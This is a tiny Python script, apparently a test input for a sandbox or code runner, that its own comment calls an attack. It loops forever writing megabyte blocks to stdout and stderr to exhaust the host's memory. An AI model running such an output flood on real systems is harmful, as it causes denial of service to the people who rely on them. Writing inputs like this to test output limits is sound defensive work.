# Attack: flood stdout and stderr, with and without newlines, to exhaust the host's memory.
import sys

line = "A" * 1023 + "\n"
block = "B" * (1 << 20)
while True:
    sys.stdout.write(line * 1024)
    sys.stdout.write(block)
    sys.stderr.write(block)
